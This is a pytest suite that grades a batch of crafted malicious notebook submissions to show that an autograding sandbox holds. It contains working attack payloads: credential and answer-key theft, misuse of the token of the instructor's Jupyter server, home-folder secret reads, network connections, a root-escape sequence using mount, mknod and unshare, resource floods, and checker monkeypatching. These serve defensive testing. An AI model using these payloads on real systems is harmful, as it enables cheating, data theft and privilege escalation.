"""Grading that holds: a class of crafted submissions, graded in one batch by `make autograde`.

A small probe chapter (no torch, so each kernel starts fast) is released in a throwaway course.
Each student's notebook attacks the grading in one way, as a student who wants the marks
without the answers would (issue 9, after Kratzke, CSEDU 2019). Each attack must score zero on
what it attacked, or be flagged; honest students in the same batch must be graded right; the
gradebook may hold only the expected rows; and no process may outlive grading.

Issue 25 adds what a student puts beside and inside the notebook (tests/hostile_submissions.py):
links and special files, collect's and zip_collect's input, script for the instructor's browser
(opened in Chromium, in JupyterLab's Formgrader and as feedback files), floods, a submission that
waits out the time limit, and one student's grading or feedback failing; all in the same batch,
with a second chapter graded first.

Issue 34 adds a kernel that tries root's ways out (capabilities, remount, mknod, mount, a user
namespace), a file without a name in the socket folder, HTML that took quadratic time to
inspect, the exchange (a submission in a classmate's name, a link to a classmate's folder) and a
student id with a comma; docs/threat-model.md lists each way in with the test that attacks it.
"""
import html
import json
import multiprocessing
import os
import re
import resource
import socket
import sqlite3
import subprocess
import sys
import threading
import time
import urllib.request
import uuid
from pathlib import Path

import nbformat
import pytest
from nbgrader.api import Gradebook

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT / "autograder"))
from scratch_course import copy_course  # noqa: E402

import hostile_submissions as hostile  # noqa: E402
from graded_html import rendered_markdown, unsafe_html, unsafe_markdown, unsafe_svg  # noqa: E402
from hostile_submissions import CHAPTER, SECOND, answered  # noqa: E402
from test_browser import chromium  # noqa: E402,F401 (the browser tests' fixture, for the Formgrader's cases)
import browser  # noqa: E402 (scripts/, put on the path by test_browser)
from hang_watchdog import process_tree  # noqa: E402
MARKER = "gpulab-adversarial-marker"          # in the command line of any process a student starts
RIGHT = {"a": 2048, "b": 0.25}

KEY = '''
from gpulab.course.checks import Item, Mistake
ITEMS = [
    Item("99-a", 2048, "", mistakes=(Mistake(2049, "2049 is not an fp16 number."),)),
    Item("99-b", 0.25, "", mistakes=(Mistake(0.5, "the step is half a gap there."),)),
]
'''


def source_notebook() -> nbformat.NotebookNode:
    def meta(grade_id, **flags):
        return {"nbgrader": {"grade": False, "solution": False, "locked": False,
                             "schema_version": 3, "grade_id": grade_id, **flags}}
    cells = [nbformat.v4.new_markdown_cell("# Probe\nTwo items.", id="intro"),
             nbformat.v4.new_code_cell("from gpulab.course.checks import check", id="setup",
                                       metadata=meta("setup", locked=True))]
    for name, value in RIGHT.items():
        cells.append(nbformat.v4.new_code_cell(
            f"{name} = ...\n### BEGIN SOLUTION\n{name} = {value!r}\n### END SOLUTION",
            id=f"answer-99-{name}", metadata=meta(f"answer-99-{name}", solution=True)))
        cells.append(nbformat.v4.new_code_cell(
            f'check("99-{name}", {name})', id=f"test-99-{name}",
            metadata=meta(f"test-99-{name}", grade=True, locked=True, points=1)))
    cells.append(nbformat.v4.new_markdown_cell(   # a written answer, graded in the Formgrader
        "Why?\n### BEGIN SOLUTION\nBecause.\n### END SOLUTION", id="answer-99-text",
        metadata=meta("answer-99-text", solution=True, grade=True, points=1)))
    nb = nbformat.v4.new_notebook(cells=cells)
    nb.metadata = {"kernelspec": {"display_name": "Python 3 (ipykernel)", "language": "python",
                                  "name": "python3"}, "language_info": {"name": "python"}}
    return nb


# ------------------------------------------------------------------------------------------
# The submissions: a function of the release notebook, and what each must score.

def cell(nb, grade_id):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def delete_test(nb):
    nb.cells.remove(cell(answered(nb), "test-99-b"))
    return nb


def duplicate_test(nb):
    nb = answered(nb, a="2049")
    test = cell(nb, "test-99-a")
    copy = nbformat.from_dict(json.loads(json.dumps(test)))
    copy.id, copy.source = "copy", "print('all fine')"
    nb.cells.insert(nb.cells.index(test), copy)      # a passing copy placed first
    return nb


def retype_test(nb):
    test = cell(answered(nb), "test-99-a")
    index = nb.cells.index(test)
    nb.cells[index] = nbformat.v4.new_markdown_cell(test.source, id=test.id, metadata=test.metadata)
    return nb


def forge_metadata(nb):
    nb = answered(nb, a="2049", b="0.5")
    for c in nb.cells:
        meta = c.metadata.get("nbgrader", {})
        if meta.get("grade_id") == "test-99-a":
            meta.update(points=100, locked=False)
            c.source = "pass"
        if meta.get("grade_id") == "answer-99-b":
            meta.update(grade=True, points=100)           # an answer cell claiming points
    nb.cells.append(nbformat.v4.new_code_cell("print('free points')", id="forged", metadata={
        "nbgrader": {"grade": True, "solution": False, "locked": True, "points": 50,
                     "schema_version": 3, "grade_id": "test-bonus"}}))
    return nb


SPY = '''
import glob, re
found = None
for pattern in ["{root}/autograder/keys/*.py", "/work/main/autograder/keys/*.py",
                "../../../keys/*.py", "{root}/solutions/*/*.ipynb", "{root}/autograder/gradebook.db",
                "{root}/autograder/submitted/honest/*/*.ipynb"]:
    for path in glob.glob(pattern):
        try:
            text = open(path, errors="ignore").read()
        except OSError:
            continue
        match = re.search(r"99-a.{0,40}?(\\d{4})", text) or re.search(r"a = (\\d{4})", text)
        if match:
            found = int(match.group(1))
'''

WRITER = '''
import os, sqlite3
for path in ["{root}/WRITTEN_BY_STUDENT", "{root}/autograder/keys/99_probe.py", "/work/main/WRITTEN_BY_STUDENT"]:
    try:
        open(path, "w").write("student was here")
    except OSError:
        pass
try:
    db = sqlite3.connect("{root}/autograder/gradebook.db")
    db.execute("update grade set manual_score = 100")
    db.commit()
except Exception:
    pass
'''

DETACHED = f'''
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)  # {MARKER}"],
                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''

# The instructor's own JupyterLab, as `make lab` runs it (same user, same machine, token auth):
# found through its runtime file under the home folder, or with its port and token given outright.
JUPYTER = r'''
import glob, json, os, re, urllib.request
servers = []
for path in glob.glob("@HOME@/.local/share/jupyter/runtime/jpserver-*.json"):
    try:
        info = json.load(open(path))
        servers.append((info["port"], info["token"]))
    except (OSError, ValueError, KeyError):
        pass
servers.append((@PORT@, "@TOKEN@"))
found = 0
for port, token in servers:
    base = f"http://127.0.0.1:{port}/api/contents"
    try:
        key = json.load(urllib.request.urlopen(f"{base}/autograder/keys/99_probe.py?token={token}", timeout=3))
        found = int(re.search(r'99-a", (\d+)', key["content"]).group(1))
        body = json.dumps({"type": "file", "format": "text", "content": "student was here"}).encode()
        urllib.request.urlopen(urllib.request.Request(f"{base}/WRITTEN_VIA_SERVER?token={token}",
                                                      data=body, method="PUT"), timeout=3)
    except Exception as error:
        print("server:", type(error).__name__)
'''

# A private file in the grading user's home folder (created by the test, removed afterwards).
HOME_SECRET = r'''
import glob
found = 0
for path in ["@SECRET@", *glob.glob("@HOME@/.*"), *glob.glob("/home/*/.*")]:
    try:
        text = open(path).read()
    except OSError:
        continue
    print(text[:200])
    found = 2048 if "SECRET-" in text else found
'''

# Listeners the test opens on the machine: TCP on 127.0.0.1 and ::1, an abstract Unix socket;
# and an address outside the machine.
CONNECT = r'''
import socket
reached = 0
for family, address in [(socket.AF_INET, ("127.0.0.1", @PORT4@)), (socket.AF_INET6, ("::1", @PORT6@)),
                        (socket.AF_INET, ("192.0.2.1", 80)), (socket.AF_UNIX, "\0@ABSTRACT@")]:
    try:
        with socket.socket(family) as s:
            s.settimeout(3)
            s.connect(address)
            s.sendall(b"student was here")
            reached = 2048
    except OSError as error:
        print(address, error)
'''

MEMORY_HOG = r'''
chunks = []
for i in range(40):                       # at most 2 GB, should the limit not hold
    chunks.append(bytearray(50 * 2**20))
    chunks[-1][::4096] = b"x" * len(chunks[-1][::4096])
'''

# Issue 34's threat model, "not refused": memory held in files no process maps. 15 MiB each (the
# batch's limit per file is 16 MiB), 1.5 GB in all should the memory wall not hold.
MEMFD_HOG = r'''
import os
held = [os.memfd_create(f"hog{i}") for i in range(100)]
for fd in held:
    os.write(fd, b"x" * (15 * 2**20))
'''

PROCESS_HOG = rf'''
import subprocess, sys, time
children = []
for i in range(100):                      # at most 100, should the limit not hold
    children.append(subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)  # {MARKER}"]))
time.sleep(30)
'''

DISK_HOG = r'''
written = []
for folder in ["/tmp", "/dev/shm", "."]:
    n = 0
    try:
        for i in range(64):                  # at most 64 MiB each, should the limit not hold
            with open(f"{folder}/fill{i}", "wb") as f:
                f.write(b"x" * 2**20)
            n += 1
    except OSError as error:
        print(folder, error)
    written.append(n)
escaped = max(written) > @DISK_MIB@
'''

# The folder of the kernel's sockets: files in it stop the kernel at once.
SOCKET_FOLDER = r'''
import os, time
from ipykernel.connect import get_connection_file
for folder in [os.path.dirname(get_connection_file())]:
    for i in range(64):
        open(f"{folder}/fill{i}", "wb").write(b"x" * 2**10)
        time.sleep(0.05)
'''

# Issue 34: a file without a name (O_TMPFILE) in the same folder, which was on the grader's disk
# (three of 1 GiB each went unnoticed there); it is a tmpfs of 1 MiB now.
SOCKET_FOLDER_TMPFILE = r'''
import os
from ipykernel.connect import get_connection_file
fd = os.open(os.path.dirname(get_connection_file()), os.O_TMPFILE | os.O_WRONLY)
written = 0
try:
    for i in range(64):                     # at most 64 MiB, should the limit not hold
        os.write(fd, b"x" * 2**20)
        written += 1
except OSError as error:
    print("socket folder:", error.strerror)
'''

# Issue 34: as root, bubblewrap kept root's capabilities (CapEff 000001fffeffffff): a cell
# remounted the gpulab bind writable, made a device node for the course's disk, mounted it, read
# the key and wrote beside the gradebook. The disk's numbers and paths come from the test.
ROOT_ESCAPE = r'''
import ctypes, os, re
import gpulab
libc = ctypes.CDLL(None, use_errno=True)
status = open("/proc/self/status").read()
capabilities = re.search(r"CapEff:\s*(\w+)", status).group(1)
uid = os.getuid()
for inside, outside, count in (map(int, line.split()) for line in open("/proc/self/uid_map")):
    if inside <= uid < inside + count:
        print("CapEff", capabilities, "uid outside", outside + uid - inside)

def attempt(name, ok):
    print(name, "done" if ok else "failed: " + os.strerror(ctypes.get_errno()))
    return ok

print("etc readable", os.access("/etc/passwd", os.R_OK))       # what the kernel needs stays readable
attempt("remount", libc.mount(b"none", os.path.dirname(gpulab.__file__).encode(), None, 32 | 4096, None) == 0)
os.makedirs("/tmp/devices", exist_ok=True)     # the sandbox's tmpfs folders are nodev: one that is not
attempt("tmpfs", libc.mount(b"none", b"/tmp/devices", b"tmpfs", 0, None) == 0)
try:
    os.mknod("/tmp/devices/disk", 0o60600, os.makedev(@MAJOR@, @MINOR@))
    print("mknod done")
except OSError as error:
    print("mknod failed:", error.strerror)
os.makedirs("/tmp/mnt", exist_ok=True)
found = 0
if attempt("mount", libc.mount(b"/tmp/devices/disk", b"/tmp/mnt", b"@FSTYPE@", 0, None) == 0):
    course = "/tmp/mnt@ON_DISK@"
    match = re.search(r'99-a", (\d+)', open(course + "/autograder/keys/99_probe.py").read())
    found = int(match.group(1)) if match else 0
    open(course + "/autograder/WRITTEN_FROM_THE_DISK", "w").write("student was here")
child = os.fork()                          # unshare needs a process of one thread
if child == 0:
    os._exit(0 if libc.unshare(0x10000000) == 0 else ctypes.get_errno())
error = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
print("user namespace", "done" if error == 0 else "failed: " + os.strerror(error))
for folder in ("", "/dev"):
    try:
        open(folder + "/planted", "w").close()
        print(folder or "/", "writable")
    except OSError as error:
        print(folder or "/", "not writable:", error.strerror)
'''

# Small limits for this batch (the defaults are in autograder/nbgrader_config.py).
MEMORY_MIB, PROCESSES, DISK_MIB = 768, 48, 16

ATTACKS = {
    # name: (make the submission from the release notebook, expected (a, b) scores, says)
    "honest": (lambda nb: answered(nb), (1, 1), None),
    "blank": (lambda nb: nb, (0, 0), "not answered yet"),
    "wrong": (lambda nb: answered(nb, "2049", "0.5"), (0, 0), "2049 is not an fp16 number"),
    "ast_hook": (lambda nb: answered(nb, "0", "0", before_a=(
        "import ast\nclass Pass(ast.NodeTransformer):\n"
        "    def visit_Call(self, node):\n        return ast.copy_location(ast.Constant(None), node)\n"
        "get_ipython().ast_transformers.append(Pass())")), (0, 0), "no answer was recorded"),
    "input_hook": (lambda nb: answered(nb, "0", "0", before_a=(
        "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])")),
        (0, 0), "no answer was recorded"),
    "eq_always_true": (lambda nb: answered(nb, "Anything()", "Anything()", before_a=(
        "class Anything:\n    def __eq__(self, other): return True\n    __hash__ = None")),
        (0, 0), "not a number"),
    "int_float_subclass": (lambda nb: answered(nb, "Liar(7)", "Floaty(0.1)", before_a=(
        "class Liar(int):\n    def __eq__(self, other): return True\n"
        "class Floaty(float):\n    def __eq__(self, other): return True\n"
        "    def __sub__(self, other): return 0.0\n    __rsub__ = __sub__")), (0, 0), None),
    "tensor_subclass": (lambda nb: answered(nb, "torch.tensor(7.0).as_subclass(Sly)",
                                            "torch.tensor([0.1, 0.2]).as_subclass(Sly)", before_a=(
        "import torch\nclass Sly(torch.Tensor):\n    def __eq__(self, other): return True")),
        (0, 0), "not a number"),
    "patched_comparisons": (lambda nb: answered(nb, "1", "1", before_a=(
        "import math, numpy, numpy.testing, torch\n"
        "math.isclose = lambda *a, **k: True\nnumpy.isclose = lambda *a, **k: True\n"
        "numpy.testing.assert_allclose = lambda *a, **k: None\ntorch.allclose = lambda *a, **k: True\n"
        "import gpulab.course.checks\ngpulab.course.checks._close = lambda *a, **k: True")), (0, 0), None),
    "patched_checker": (lambda nb: answered(nb, "1", "1", before_b=(
        "import gpulab.course.checks\ngpulab.course.checks.check = lambda *a: print('right')\n"
        "check = lambda *a: print('\\u2714 right')")), (0, 0), "no answer was recorded"),
    "forged_record": (lambda nb: answered(nb, "1", "1", before_a=(
        "from IPython.display import display\n"
        "def check(item, value):\n"
        "    for guess in (2048, 0.25, 1, 2):\n"
        "        display({'application/vnd.gpulab.answer+json': {'item': item, 'value': guess}}, raw=True)"
        )), (0, 0), "more than one answer"),
    "traceback_override": (lambda nb: answered(nb, "2049", "0.5", before_a=(
        "ip = get_ipython()\nip.showtraceback = lambda *a, **k: None\n"
        "ip.set_custom_exc((BaseException,), lambda *a, **k: None)")), (0, 0), None),
    "exit_kernel": (lambda nb: answered(nb, before_b="import os\nos._exit(0)"), (1, 0),
                    "kernel died"),
    "segfault": (lambda nb: answered(nb, before_b="import ctypes\nctypes.string_at(0)"), (1, 0),
                 "kernel died"),
    "swallow_interrupt": (lambda nb: answered(nb, before_b=(
        "import time\nwhile True:\n    try:\n        time.sleep(0.1)\n    except BaseException:\n        pass")),
        (1, 0), "ran longer than"),
    "huge_text": (lambda nb: answered(nb, before_a="for i in range(100_000):\n    print(i)"), (1, 1), None),
    "huge_image": (lambda nb: answered(nb, before_a=(
        "import base64, os\nfrom IPython.display import display\n"
        "display({'image/png': base64.b64encode(os.urandom(20 * 2**20)).decode()}, raw=True)")),
        (1, 1), None),
    "reads_secrets": (lambda nb: answered(nb, "found or 0", "0.5", before_a=SPY), (0, 0), None),
    "writes_course": (lambda nb: answered(nb, before_a=WRITER), (1, 1), None),
    "detached_process": (lambda nb: answered(nb, before_a=DETACHED), (1, 1), None),
    "deleted_test": (delete_test, (1, 1), "put back deleted cell 'test-99-b'"),
    "duplicated_test": (duplicate_test, (0, 1), "a second copy of"),
    "retyped_test": (retype_test, (1, 1), "as a code cell"),
    "forged_metadata": (forge_metadata, (0, 0), "unknown cell 'test-bonus'"),
    "odd_answers": (lambda nb: answered(nb, "float('nan')", "'0.25'"), (0, 0), "NaN"),
    "inf_and_tensor": (lambda nb: answered(nb, "float('inf')", "__import__('torch').tensor([0.25])"),
                       (0, 0), "array of shape"),
    # Issue 14: the machine around the sandbox.
    "uses_jupyter_server": (lambda nb: answered(nb, "found", "0.5", before_a=JUPYTER), (0, 0), None),
    "reads_home": (lambda nb: answered(nb, "found", "0.5", before_a=HOME_SECRET), (0, 0), None),
    "connects": (lambda nb: answered(nb, "2048 + reached", "0.5", before_a=CONNECT), (1, 0), None),
    "memory_hog": (lambda nb: answered(nb, before_b=MEMORY_HOG), (1, 0), f"more than {MEMORY_MIB} MiB of memory"),
    "memfd_hog": (lambda nb: answered(nb, before_b=MEMFD_HOG), (1, 0),
                  f"more than {MEMORY_MIB} MiB of memory, counting what it held in files"),
    "process_hog": (lambda nb: answered(nb, before_b=PROCESS_HOG), (1, 0), f"more than {PROCESSES} processes"),
    "disk_hog": (lambda nb: answered(nb, b="0 if escaped else 0.25", before_b=DISK_HOG), (1, 1), None),
    "writes_socket_folder": (lambda nb: answered(nb, before_b=SOCKET_FOLDER), (1, 0), "connection sockets"),
    # Issue 34: no capabilities and never root; the socket folder's size.
    "root_escape": (lambda nb: answered(nb, "found", "0.25 if capabilities == '0' * 16 else 0.5",
                                        before_a=ROOT_ESCAPE), (0, 1), None),
    "socket_folder_tmpfile": (lambda nb: answered(nb, b="0.25 if written <= 2 else 0.5",
                                                  before_b=SOCKET_FOLDER_TMPFILE), (1, 1), None),
}


class Listener(threading.Thread):
    """A server socket on this machine that records whoever connects."""

    def __init__(self, family, address):
        super().__init__(daemon=True)
        self.sock = socket.socket(family)
        self.sock.bind(address)
        self.sock.listen()
        self.address = self.sock.getsockname()
        self.connections = []

    def run(self):
        while True:
            try:
                connection, peer = self.sock.accept()
            except OSError:
                return
            self.connections.append(peer)
            connection.close()


@pytest.fixture(scope="module")
def machine(tmp_path_factory):
    """What surrounds grading on an instructor's machine: a course folder, the instructor's
    JupyterLab started as `make lab` starts it (token auth), a private file in the home folder,
    and listeners on 127.0.0.1, ::1 and an abstract Unix socket. Everything goes afterwards."""
    course = copy_course(tmp_path_factory.mktemp("adversarial"))
    secret = Path.home() / f".gpulab-adversarial-secret-{os.getpid()}"
    secret.write_text(f"SECRET-{uuid.uuid4()}")
    listeners = [Listener(socket.AF_INET, ("127.0.0.1", 0))]
    if socket.has_ipv6:
        try:
            listeners.append(Listener(socket.AF_INET6, ("::1", 0)))
        except OSError:                   # no IPv6 on this machine: nothing to reach there
            pass
    listeners.append(Listener(socket.AF_UNIX, f"\0gpulab-adversarial-{os.getpid()}"))
    for listener in listeners:
        listener.start()
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    server_log = open(course / "jupyter.log", "w")
    server = subprocess.Popen(
        [str(Path(sys.executable).parent / "jupyter"), "lab", f"--ServerApp.root_dir={course}",
         "--LabApp.default_url=/lab/tree/notebooks", "--no-browser", f"--ServerApp.port={port}",
         "--ServerApp.port_retries=0", *(["--allow-root"] if os.getuid() == 0 else [])],
        env={**os.environ, "JUPYTER_CONFIG_PATH": str(course / "autograder"),   # as `make lab` starts it
             "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"},
        stdout=server_log, stderr=subprocess.STDOUT)
    (course / "tmp").mkdir()            # grading's TMPDIR: the kernels' socket folders go there
    try:
        yield {"course": course, "tmp": course / "tmp", "secret": secret, "listeners": listeners, "server": server,
               "port": port, "runtime": Path.home() / ".local/share/jupyter/runtime"}
    finally:
        server.terminate()
        server.wait(timeout=30)
        secret.unlink()
        for listener in listeners:
            listener.sock.close()


def jupyter_token(machine) -> str:
    """The running server's token, from its runtime file (as a hostile notebook would find it)."""
    runtime = machine["runtime"] / f"jpserver-{machine['server'].pid}.json"
    for _ in range(600):
        if runtime.exists():
            try:
                return json.loads(runtime.read_text())["token"]
            except ValueError:                # being written
                pass
        assert machine["server"].poll() is None, "JupyterLab did not start"
        time.sleep(0.1)
    raise AssertionError("JupyterLab did not write its runtime file within 60 s")


# Every student of chapter 99 and what each must score: the kernel attacks above, issue 25's
# notebooks and folders, and the submissions that arrive through collect and zip_collect.
CASES = {**ATTACKS, **hostile.NOTEBOOK_ATTACKS, **hostile.FILE_ATTACKS,
         hostile.COLLECTED: (answered, (1, 1), "refused 'key.py': a symbolic link"),
         hostile.ZIPPED: (answered, (1, 1), "refused 'extra.ipynb': a symbolic link")}
NOT_GRADED = {"not_a_notebook": "not a notebook", "grader_dies": "nbgrader stopped"}
HONEST = ("honest", "honest_with_files", "feedback_fails")   # no finding for them


class MemoryWatch(threading.Thread):
    """The highest peak resident memory (VmHWM) of any nbgrader process running in ``folder``
    (grade.py forks them: release.start_nbgrader), sampled five times a second: the grading
    process, outside every sandbox. Only this test's own processes are read, and only files that
    take no lock of theirs (a scan of every command line on the machine can wait on one)."""

    def __init__(self, folder: Path):
        super().__init__(daemon=True)
        self.folder, self.peak_bytes, self.stopped = str(folder), 0, threading.Event()

    def run(self):
        while not self.stopped.wait(0.2):
            for pid in process_tree(os.getpid(), leave_out="bwrap")[1:]:
                try:
                    if os.readlink(f"/proc/{pid}/cwd") != self.folder:
                        continue
                    status = Path(f"/proc/{pid}/status").read_text()
                except OSError:
                    continue
                hwm = re.search(r"^VmHWM:\s+(\d+) kB", status, re.M)   # none once it is exiting
                if hwm:
                    self.peak_bytes = max(self.peak_bytes, int(hwm.group(1)) * 1024)


@pytest.fixture(scope="module")
def graded(machine):
    """The probe chapters released and every submission graded in one `grade.py` run."""
    course = machine["course"]
    for chapter in (CHAPTER, SECOND):
        (course / "solutions" / chapter).mkdir()
        nbformat.write(source_notebook(), course / "solutions" / chapter / f"{chapter}.ipynb")
        (course / "autograder" / "keys" / f"{chapter}.py").write_text(KEY)
    with open(course / "autograder" / "nbgrader_config.py", "a") as config:
        config.write("\nc.Execute.timeout = 20\n"
                     f"c.ExecuteSandboxed.notebook_timeout = {hostile.NOTEBOOK_SECONDS}\n"
                     f"c.SandboxedKernelManager.memory_limit = {MEMORY_MIB} * 2**20\n"
                     f"c.SandboxedKernelManager.process_limit = {PROCESSES}\n"
                     f"c.SandboxedKernelManager.disk_limit = {DISK_MIB} * 2**20\n" + hostile.CONFIG)
    run(course, "release.py", CHAPTER, SECOND)
    token = jupyter_token(machine)
    # The server is really there and really answers with its token: the attack can fail only
    # because of the sandbox.
    status = f"http://127.0.0.1:{machine['port']}/api/contents/autograder/keys?token={token}"
    assert urllib.request.urlopen(status, timeout=10).status == 200
    ports = {listener.sock.family: listener.address for listener in machine["listeners"]}
    fill = {"@HOME@": str(Path.home()), "@SECRET@": str(machine["secret"]), "@PORT@": str(machine["port"]),
            "@TOKEN@": token, "@PORT4@": str(ports[socket.AF_INET][1]),
            "@PORT6@": str(ports.get(socket.AF_INET6, ("", 1))[1]),
            "@ABSTRACT@": ports[socket.AF_UNIX][1:].decode() if isinstance(ports[socket.AF_UNIX], bytes)
            else ports[socket.AF_UNIX][1:], "@DISK_MIB@": str(DISK_MIB), **disk_of(course)}
    release = course / "notebooks" / CHAPTER / f"{CHAPTER}.ipynb"
    submitted = course / "autograder" / "submitted"
    broken = submitted / "not_a_notebook" / CHAPTER
    broken.mkdir(parents=True)
    (broken / f"{CHAPTER}.ipynb").write_text("this is not a notebook {")
    for student, (make, _, _) in {**ATTACKS, **hostile.NOTEBOOK_ATTACKS, "grader_dies": (answered, 0, 0),
                                  hostile.COMMA_ID: (answered, 0, 0)}.items():
        folder = submitted / student / CHAPTER
        folder.mkdir(parents=True)
        nb = make(nbformat.read(release, as_version=4))
        text = nbformat.writes(nb).replace("{root}", str(course))
        for placeholder, value in fill.items():
            text = text.replace(placeholder, value)
        (folder / f"{CHAPTER}.ipynb").write_text(text)
    hostile.with_files(submitted / "honest_with_files" / CHAPTER, course, release)
    for student, (prepare, _, _) in hostile.FILE_ATTACKS.items():
        (submitted / student / CHAPTER).mkdir(parents=True)
        prepare(submitted / student / CHAPTER, course, release)
    (submitted / hostile.STUDENT_FOLDER_LINK).symlink_to("honest")
    (submitted / "early_breaker" / SECOND).mkdir(parents=True)     # a missing attachment, in 98
    nbformat.write(hostile.attachments(nbformat.read(release, as_version=4)),
                   submitted / "early_breaker" / SECOND / f"{SECOND}.ipynb")
    # collect's and zip_collect's input, collected as an instructor would
    exchange = machine["tmp"].parent / "exchange"
    hostile.exchange_submission(exchange, "gpu-training-lab", release, course)
    hostile.lms_download(course, release)
    collect = nbgrader_command(course, "collect", CHAPTER, f"--Exchange.root={exchange}")
    zip_collect = nbgrader_command(course, "zip_collect", CHAPTER,
                                   f"--FileNameCollectorPlugin.named_regexp={hostile.ZIP_REGEXP}")
    before = set(browser.command_lines())
    memory = MemoryWatch(course / "autograder")
    memory.start()
    start = time.perf_counter()
    cpu = resource.getrusage(resource.RUSAGE_CHILDREN)
    result = run(course, "grade.py", TMPDIR=str(machine["tmp"]))
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    cpu_seconds = after.ru_utime + after.ru_stime - cpu.ru_utime - cpu.ru_stime
    (course / "grade-output.txt").write_text(result.stdout + result.stderr)   # to read when a test fails
    memory.stopped.set()
    print(f"grade.py: {time.perf_counter() - start:.1f} s, {cpu_seconds:.0f} CPU-s for {len(CASES) + 3} submissions; "
          f"grading's peak memory {memory.peak_bytes / 2**20:.0f} MiB")
    return course, result.stdout, before, {"collect": collect, "zip_collect": zip_collect,
                                           "peak_bytes": memory.peak_bytes}


def disk_of(path: Path) -> dict[str, str]:
    """The block device that holds ``path``, its file system, and where ``path`` lies on it (for
    ROOT_ESCAPE, which mounts it)."""
    info = os.stat(path)
    device = f"{os.major(info.st_dev)}:{os.minor(info.st_dev)}"
    mounts = [line.split() for line in Path("/proc/self/mountinfo").read_text().splitlines()]
    root, point, fstype = max(((m[3], m[4], m[m.index("-") + 1]) for m in mounts if m[2] == device
                               and (str(path) + "/").startswith(m[4].rstrip("/") + "/")),
                              key=lambda m: len(m[1]), default=("/", "/", "ext4"))
    on_disk = os.path.normpath(os.path.join(root, os.path.relpath(path, point)))
    return {"@MAJOR@": str(os.major(info.st_dev)), "@MINOR@": str(os.minor(info.st_dev)),
            "@FSTYPE@": fstype, "@ON_DISK@": on_disk}


def nbgrader_command(course, *args) -> str:
    """An nbgrader command in the course, as an instructor runs it (cd autograder); its output."""
    env = {**os.environ, "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"}
    result = subprocess.run([sys.executable, "-m", "nbgrader", *args], cwd=course / "autograder", env=env,
                            capture_output=True, text=True, timeout=300)
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
    return result.stdout + result.stderr


def run(course, script, *args, **env_vars):
    env = {k: v for k, v in os.environ.items() if k != "GPULAB_ANSWER_KEYS"} | env_vars
    result = subprocess.run([sys.executable, f"autograder/{script}", *args], cwd=course, env=env,
                            capture_output=True, text=True, timeout=1200)
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
    return result


def autograded(course, student) -> nbformat.NotebookNode:
    path = course / "autograder" / "autograded" / student / CHAPTER / f"{CHAPTER}.ipynb"
    return nbformat.read(path, as_version=4)


def verdicts(course, student) -> str:
    """What grading wrote, as the reader sees it: the test cells' outputs and the grading notes
    (rendered: they are escaped Markdown), not the learner's code."""
    texts = []
    for c in autograded(course, student).cells:
        if c.cell_type == "markdown" and c.source.startswith("**Grading notes**"):
            texts.append(html.unescape(re.sub(r"<[^>]+>", "", rendered_markdown(c.source))))
        if c.metadata.get("nbgrader", {}).get("grade_id", "").startswith("test-"):
            texts += [o.get("text") or o.get("evalue", "") for o in c.outputs]
    return "\n".join(texts)


def test_there_are_at_least_29_attacks():
    assert len([name for name in ATTACKS if name not in ("honest", "blank", "wrong")]) >= 29


# Only a root grader can make the memory wall (autograder/sandbox.py, memory_wall).
NEEDS_ROOT_CASES = ("memfd_hog",)


@pytest.mark.parametrize("student", [pytest.param(s, marks=pytest.mark.needs_root)
                                     if s in NEEDS_ROOT_CASES else s for s in CASES])
def test_each_submission_scores_what_it_earned(graded, student):
    course, _, _, _ = graded
    _, (score_a, score_b), says = CASES[student]
    with Gradebook(f"sqlite:///{course / 'autograder' / 'gradebook.db'}") as gradebook:
        got = tuple(gradebook.find_grade(f"test-99-{name}", CHAPTER, CHAPTER, student).score
                    for name in RIGHT)
        submission = gradebook.find_submission(CHAPTER, student)
        assert submission.max_score == 3, "forged points must not change the maximum"
    assert got == (score_a, score_b), f"{student}: scored {got}"
    if says:
        assert says in verdicts(course, student), f"{student}: the feedback should say {says!r}"


def test_feedback_never_shows_the_answer_or_the_checker(graded):
    course, _, _, _ = graded
    feedback = course / "autograder" / "feedback" / "wrong" / CHAPTER / f"{CHAPTER}.html"
    text = feedback.read_text()
    assert "2049 is not an fp16 number" in text
    assert "2048" not in text, "the feedback leaks an expected value"
    assert "secure_grading" not in text and "def judge" not in text


def test_outputs_are_capped(graded):
    course, _, _, _ = graded
    for student in ("huge_text", "huge_image"):
        path = course / "autograder" / "autograded" / student / CHAPTER / f"{CHAPTER}.ipynb"
        assert path.stat().st_size < 2 * 2**20, f"{student}: {path.stat().st_size:,} bytes kept"


def test_nothing_was_read_or_written_outside_the_working_copy(graded):
    course, _, _, _ = graded
    assert not (course / "WRITTEN_BY_STUDENT").exists()
    assert not (ROOT / "WRITTEN_BY_STUDENT").exists()
    assert "student was here" not in (course / "autograder" / "keys" / f"{CHAPTER}.py").read_text()
    db = sqlite3.connect(course / "autograder" / "gradebook.db")
    assert db.execute("select count(*) from grade where manual_score = 100").fetchone() == (0,)


def test_the_instructors_jupyter_server_was_not_reached(graded, machine):
    course, _, _, _ = graded
    assert not (course / "WRITTEN_VIA_SERVER").exists()
    assert "server: URLError" in outputs(course, "uses_jupyter_server")     # it did try


def test_no_connection_reached_the_machine(graded, machine):
    course, _, _, _ = graded
    assert len(machine["listeners"]) >= 2
    for listener in machine["listeners"]:
        assert listener.connections == [], f"{listener.address} was reached"
    assert "unreachable" in outputs(course, "connects")                    # it did try


def test_nothing_of_the_home_folder_reaches_grading(graded, machine):
    course, _, _, _ = graded
    secret = machine["secret"].read_text()
    for folder in ("autograded", "feedback"):
        for path in (course / "autograder" / folder).rglob("*"):
            if path.is_file():
                assert secret not in path.read_text(errors="ignore"), path


def test_limits_stop_the_submission_not_the_batch(graded):
    course, stdout, _, _ = graded
